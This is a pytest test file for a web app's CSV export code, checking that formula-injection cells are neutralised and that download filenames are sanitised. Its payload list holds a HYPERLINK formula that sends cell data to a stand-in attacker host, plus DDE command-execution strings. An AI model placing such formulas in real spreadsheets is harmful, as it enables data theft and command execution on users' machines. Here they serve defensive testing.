"""CSV (and later XLSX) exports: formula injection neutralised."""

import csv
import datetime
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from opennrm.web.exports import (
    FORMULA_STARTS,
    SafeCsvWriter,
    csv_response,
    csv_text,
    safe_cell,
)

PAYLOADS = [
    "=1+1",
    '=HYPERLINK("http://attacker.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_starts_are_neutralised(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["Dupont", "", " =not a formula at the start", "a=b", "C-AB12-CD34", "'already quoted"],
)
def test_ordinary_text_is_unchanged(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value",
    [
        -5,
        3.5,
        0,
        None,
        True,
        datetime.date(2025, 1, 6),
        datetime.datetime(2025, 1, 6, tzinfo=datetime.UTC),
    ],
)
def test_non_text_values_are_unchanged(value):
    assert safe_cell(value) == value


@given(st.text())
def test_no_cell_ever_starts_a_formula(value):
    cell = safe_cell(value)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell in (value, "'" + value)


def test_the_csv_writer_neutralises_every_cell():
    stream = io.StringIO()
    writer = SafeCsvWriter(stream)
    writer.writerow(["name", "note", "count"])
    writer.writerows([["=1+1", "@evil", -3], ["Dupont", None, 4]])
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert rows == [["name", "note", "count"], ["'=1+1", "'@evil", "-3"], ["Dupont", "", "4"]]


def test_csv_text_quotes_newlines_and_separators():
    text = csv_text(["a", "b"], [["x,y", "line\nbreak"]])
    assert list(csv.reader(io.StringIO(text))) == [["a", "b"], ["x,y", "line\nbreak"]]


def test_the_csv_download():
    response = csv_response("Export été/../x", ["=header"], [["+1"]])
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert response["Cache-Control"] == "no-store"
    body = response.content.decode("utf-8")
    assert body.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(body[1:]))) == [["'=header"], ["'+1"]]
